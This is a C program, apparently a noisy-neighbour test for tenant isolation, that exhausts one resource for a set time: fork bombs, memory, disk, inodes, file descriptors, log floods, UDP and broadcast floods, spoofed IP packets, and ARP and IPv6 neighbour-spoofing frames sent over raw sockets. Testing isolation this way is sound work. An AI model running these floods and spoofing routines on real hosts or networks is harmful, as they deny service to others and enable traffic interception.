/* A tenant who takes all that there is, of one thing at a time: `rogue WHAT SECONDS [ADDRESS...]`.

   Ends by itself after SECONDS, whatever the kernel lets it do or not, and tells on its last line how much it got. The
   addresses are the victim's and the gateway's (IPv4), for those that send. What it writes goes to /tmp/rogue.* and
   is bounded, so that an engine without a limit for disks loses no more than MOST_BYTES. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/inotify.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define MOST_BYTES (1ULL << 30)
enum { MOST_FILES = 200000, BLOCK = 1 << 20, SMALL = 4096, WIDTH = 8, FRAME = 60 };
#define DIRECTORY "/tmp/rogue."

static struct timespec began;
static double seconds;
static char **addresses;
static unsigned long *got; /* shared by all processes of a rogue */

static double elapsed(void)
{
	struct timespec now;
	clock_gettime(CLOCK_MONOTONIC, &now);
	return (double)(now.tv_sec - began.tv_sec) + (double)(now.tv_nsec - began.tv_nsec) / 1e9;
}

static int over(void)
{
	return elapsed() > seconds;
}

static void count(unsigned long more)
{
	__atomic_add_fetch(got, more, __ATOMIC_RELAXED);
}

static void wait_for_the_end(void)
{
	while (!over())
		usleep(20000);
}

/* When memory is short the kernel is to end this process, not the first. */
static void offer_myself(void)
{
	int fd = open("/proc/self/oom_score_adj", O_WRONLY);
	if (fd < 0 || write(fd, "1000", 4) < 0)
		perror("oom_score_adj");
	if (fd >= 0)
		close(fd);
}

/* `work` in so many processes at once, or in as many as there can be; in the place of one that was ended comes the next. */
static void in_processes(int number, void (*work)(int))
{
	for (int running = 0; !over();) {
		pid_t pid = running < number ? fork() : -1;
		if (pid == 0) {
			offer_myself();
			work(running);
			_exit(0);
		}
		running += pid > 0;
		if (pid < 0)
			usleep(20000);
		while (waitpid(-1, NULL, WNOHANG) > 0)
			running--;
	}
}

static void name_of(char *name, size_t size, const char *what, unsigned long number)
{
	snprintf(name, size, DIRECTORY "%s.%d.%lu", what, (int)getpid(), number);
}

/* --- processors, processes, memory */

static void forks(void)
{
	signal(SIGCHLD, SIG_IGN);
	while (!over())
		if (fork() > 0)
			count(1);
}

static void spin_one(int number)
{
	(void)number;
	for (volatile unsigned long i = 0;; i++)
		if ((i & 0xfffff) == 0) {
			if (over())
				return;
			count(1);
		}
}

static void spin(void)
{
	in_processes(WIDTH, spin_one);
}

static void eat(void)
{
	for (;;) {
		unsigned char *more = mmap(NULL, BLOCK, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
		if (more == MAP_FAILED || over())
			return;
		for (size_t i = 0; i < BLOCK; i += SMALL)
			more[i] = (unsigned char)i;
		count(BLOCK);
	}
}

/* The child is the one that the kernel ends; then comes the next. */
static void memory(void)
{
	while (!over()) {
		pid_t pid = fork();
		if (pid == 0) {
			offer_myself();
			eat();
			_exit(0);
		}
		if (pid > 0)
			waitpid(pid, NULL, 0);
	}
}

/* Data that nobody reads in sockets' buffers, which are the kernel's. */
static void sockets_one(int number)
{
	static char block[65536];
	(void)number;
	int listener = socket(AF_INET, SOCK_STREAM, 0);
	struct sockaddr_in at = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
	socklen_t length = sizeof at;
	if (listener < 0 || bind(listener, (struct sockaddr *)&at, length) < 0 || listen(listener, 4096) < 0 ||
	    getsockname(listener, (struct sockaddr *)&at, &length) < 0)
		return;
	while (!over()) {
		int size = 64 << 20, fd = socket(AF_INET, SOCK_STREAM, 0);
		if (fd < 0 || connect(fd, (struct sockaddr *)&at, sizeof at) < 0 || accept(listener, NULL, NULL) < 0) {
			usleep(1000);
			continue;
		}
		setsockopt(fd, SOL_SOCKET, SO_SNDBUF, &size, sizeof size);
		for (ssize_t sent; (sent = send(fd, block, sizeof block, MSG_DONTWAIT)) > 0;)
			count((unsigned long)sent);
	}
}

static void sockets(void)
{
	in_processes(WIDTH, sockets_one);
}

/* --- disk */

static unsigned long long write_file(const char *name, unsigned long long most)
{
	static char block[BLOCK];
	unsigned long long written = 0;
	memset(block, 0x5a, sizeof block);
	int fd = open(name, O_WRONLY | O_CREAT | O_TRUNC, 0600);
	while (fd >= 0 && written < most && !over()) {
		ssize_t part = write(fd, block, sizeof block);
		if (part <= 0)
			break;
		written += (unsigned long long)part;
		count((unsigned long)part);
	}
	if (fd >= 0)
		close(fd);
	return written;
}

static void fill(void)
{
	while (!over()) {
		write_file(DIRECTORY "fill", MOST_BYTES);
		usleep(200000);
		unlink(DIRECTORY "fill");
	}
}

/* Twice what it may have in memory, read again and again. */
static void cache(void)
{
	static char block[BLOCK];
	write_file(DIRECTORY "cache", 160ULL << 20);
	while (!over()) {
		int fd = open(DIRECTORY "cache", O_RDONLY);
		ssize_t part;
		if (fd < 0)
			return;
		while (!over() && (part = read(fd, block, sizeof block)) > 0)
			count((unsigned long)part);
		close(fd);
	}
}

static void io_one(int number)
{
	char name[64], *block;
	uint32_t random = (uint32_t)number + 1;
	name_of(name, sizeof name, "io", 0);
	int fd = open(name, O_RDWR | O_CREAT | O_DIRECT, 0600);
	block = mmap(NULL, SMALL, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (fd < 0 || block == MAP_FAILED)
		return;
	memset(block, number, SMALL);
	while (!over()) {
		random = random * 1664525u + 1013904223u;
		if (pwrite(fd, block, SMALL, (off_t)((random >> 8) % 4096) * SMALL) == SMALL && fdatasync(fd) == 0)
			count(1);
		else
			usleep(1000);
	}
	unlink(name);
}

static void io(void)
{
	in_processes(WIDTH, io_one);
}

static void inodes(void)
{
	char name[64];
	unsigned long made = 0;
	while (!over()) {
		name_of(name, sizeof name, "inode", made);
		int fd = made < MOST_FILES ? open(name, O_WRONLY | O_CREAT | O_EXCL, 0600) : -1;
		if (fd < 0) {
			usleep(1000);
			continue;
		}
		close(fd);
		made++;
		count(1);
	}
	while (made-- > 0) {
		name_of(name, sizeof name, "inode", made);
		unlink(name);
	}
}

/* --- things of which a kernel has a number */

static void raise_limit(void)
{
	struct rlimit limit;
	if (getrlimit(RLIMIT_NOFILE, &limit) == 0) {
		limit.rlim_cur = limit.rlim_max;
		setrlimit(RLIMIT_NOFILE, &limit);
	}
}

static void keep_opening(int (*opened)(void))
{
	raise_limit();
	while (!over()) {
		if (opened() >= 0)
			count(1);
		else
			usleep(1000);
	}
}

static int open_null(void)
{
	return open("/dev/null", O_RDONLY);
}

static void files_one(int number)
{
	(void)number;
	keep_opening(open_null);
}

static void files(void)
{
	in_processes(64, files_one);
}

static int open_terminal(void)
{
	return open("/dev/ptmx", O_RDWR | O_NOCTTY);
}

static void ptys(void)
{
	keep_opening(open_terminal);
}

static int open_watcher(void)
{
	return inotify_init1(0);
}

static void watchers(void)
{
	keep_opening(open_watcher);
}

/* --- what it says */

static void logs(void)
{
	static char lines[1 << 16];
	memset(lines, 'x', sizeof lines);
	for (size_t i = 79; i < sizeof lines; i += 80)
		lines[i] = '\n';
	while (!over() && *got < 4 * MOST_BYTES) { /* where nobody bounds its log */
		ssize_t part = write(2, lines, sizeof lines);
		if (part > 0)
			count((unsigned long)part);
	}
	wait_for_the_end();
}

/* --- what it sends */

static int broadcasts;

/* Each to another port, from another port: a connection each to who keeps track of them. */
static void send_one(int number)
{
	uint32_t random = (uint32_t)number * 7919u + 1;
	char payload[18] = {0};
	int yes = 1;
	while (!over()) {
		int fd = socket(AF_INET, SOCK_DGRAM, 0);
		if (fd < 0)
			return;
		setsockopt(fd, SOL_SOCKET, SO_BROADCAST, &yes, sizeof yes);
		for (int i = 0; i < 64; i++) {
			random = random * 1664525u + 1013904223u;
			struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons((uint16_t)(1024 + random % 60000))};
			if (broadcasts)
				to.sin_addr.s_addr = INADDR_BROADCAST;
			else
				inet_pton(AF_INET, addresses[i % 2 && addresses[1] ? 1 : 0], &to.sin_addr);
			if (sendto(fd, payload, sizeof payload, MSG_DONTWAIT, (struct sockaddr *)&to, sizeof to) > 0)
				count(1);
			else
				sched_yield();
		}
		close(fd);
	}
}

static void packets(void)
{
	in_processes(4, send_one);
}

static void storm(void)
{
	broadcasts = 1;
	in_processes(4, send_one);
}

static uint16_t checksum(const unsigned char *data, size_t length)
{
	uint32_t total = 0;
	for (size_t i = 0; i + 1 < length; i += 2)
		total += (uint32_t)(data[i] << 8 | data[i + 1]);
	while (total >> 16)
		total = (total & 0xffff) + (total >> 16);
	return (uint16_t)~total;
}

/* From the victim's address, to the gateway: an empty datagram. */
static size_t stolen_packet(unsigned char *frame)
{
	unsigned char *ip = frame + 14;
	memcpy(frame + 12, "\x08\x00", 2);
	memcpy(ip, "\x45\x00\x00\x1c\x00\x01\x00\x00\x40\x11\x00\x00", 12);
	inet_pton(AF_INET, addresses[0], ip + 12);
	inet_pton(AF_INET, addresses[1], ip + 16);
	uint16_t sum = htons(checksum(ip, 20));
	memcpy(ip + 10, &sum, 2);
	memcpy(ip + 20, "\x15\xb3\x00\x09\x00\x08\x00\x00", 8);
	return FRAME;
}

/* To everybody: the victim's address, or the gateway's, is at my station. */
static size_t arp_claim(unsigned char *frame, const unsigned char *mine, const char *address)
{
	memcpy(frame + 12, "\x08\x06\x00\x01\x08\x00\x06\x04\x00\x02", 10);
	memcpy(frame + 22, mine, 6);
	inet_pton(AF_INET, address, frame + 28);
	memset(frame + 32, 0xff, 6);
	inet_pton(AF_INET, address, frame + 38);
	return FRAME;
}

/* To all nodes: fe80::1 is at my station. */
static size_t neighbour_claim(unsigned char *frame, const unsigned char *mine)
{
	unsigned char *ip = frame + 14, pseudo[40 + 32] = {0};
	memcpy(frame, "\x33\x33\0\0\0\1", 6);
	memcpy(frame + 12, "\x86\xdd", 2);
	memcpy(ip, "\x60\0\0\0\0\x20\x3a\xff", 8);
	inet_pton(AF_INET6, "fe80::1", ip + 8);
	inet_pton(AF_INET6, "ff02::1", ip + 24);
	memcpy(ip + 40, "\x88\0\0\0\x20\0\0\0", 8);
	memcpy(ip + 48, ip + 8, 16);
	memcpy(ip + 64, "\x02\x01", 2);
	memcpy(ip + 66, mine, 6);
	memcpy(pseudo, ip + 8, 32);
	memcpy(pseudo + 32, "\0\0\0\x20\0\0\0\x3a", 8);
	memcpy(pseudo + 40, ip + 40, 32);
	uint16_t sum = htons(checksum(pseudo, sizeof pseudo));
	memcpy(ip + 42, &sum, 2);
	return 14 + 72;
}

static int raw(unsigned char *mine)
{
	struct ifreq request = {.ifr_name = "eth0"};
	int fd = socket(AF_PACKET, SOCK_RAW, htons(3));
	struct sockaddr_ll at = {.sll_family = AF_PACKET, .sll_protocol = htons(3), .sll_ifindex = (int)if_nametoindex("eth0")};
	if (fd < 0 || bind(fd, (struct sockaddr *)&at, sizeof at) < 0 || ioctl(fd, SIOCGIFHWADDR, &request) < 0)
		return -1;
	memcpy(mine, request.ifr_hwaddr.sa_data, 6);
	return fd;
}

static void frames(int claims)
{
	unsigned char mine[6], frame[2 * FRAME];
	int fd = raw(mine);
	for (unsigned long i = 0; fd >= 0 && !over(); i++) {
		memset(frame, 0, sizeof frame);
		memset(frame, 0xff, 6);
		memcpy(frame + 6, mine, 6);
		size_t size = !claims ? stolen_packet(frame) : i % 3 == 2 ? neighbour_claim(frame, mine)
								  : arp_claim(frame, mine, addresses[i % 3]);
		if (send(fd, frame, size, MSG_DONTWAIT) > 0)
			count(1);
		else
			sched_yield();
	}
	if (fd < 0)
		wait_for_the_end(); /* it is not even let near its link */
}

static void spoof(void)
{
	frames(0);
}

static void claims(void)
{
	frames(1);
}

static const struct rogue {
	const char *name;
	void (*run)(void);
	int addresses;
} rogues[] = {
	{"forks", forks, 0},   {"spin", spin, 0},	{"memory", memory, 0}, {"sockets", sockets, 0},
	{"fill", fill, 0},     {"cache", cache, 0},	{"io", io, 0},	       {"inodes", inodes, 0},
	{"files", files, 0},   {"ptys", ptys, 0},	{"watchers", watchers, 0}, {"logs", logs, 0},
	{"packets", packets, 2}, {"storm", storm, 0},	{"spoof", spoof, 2},   {"claims", claims, 2},
};

int main(int argc, char **argv)
{
	const struct rogue *rogue = NULL;
	for (size_t i = 0; argc > 2 && i < sizeof rogues / sizeof *rogues; i++)
		if (strcmp(argv[1], rogues[i].name) == 0)
			rogue = &rogues[i];
	if (rogue == NULL || argc - 3 < rogue->addresses || (seconds = strtod(argv[2], NULL)) <= 0) {
		fprintf(stderr, "rogue WHAT SECONDS [VICTIM GATEWAY]\n");
		return 2;
	}
	addresses = argv + 3;
	clock_gettime(CLOCK_MONOTONIC, &began);
	got = mmap(NULL, SMALL, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (got == MAP_FAILED)
		return 1;
	pid_t first = getpid();
	rogue->run();
	if (getpid() == first)
		printf("%s: %lu\n", rogue->name, *got);
	return 0;
}
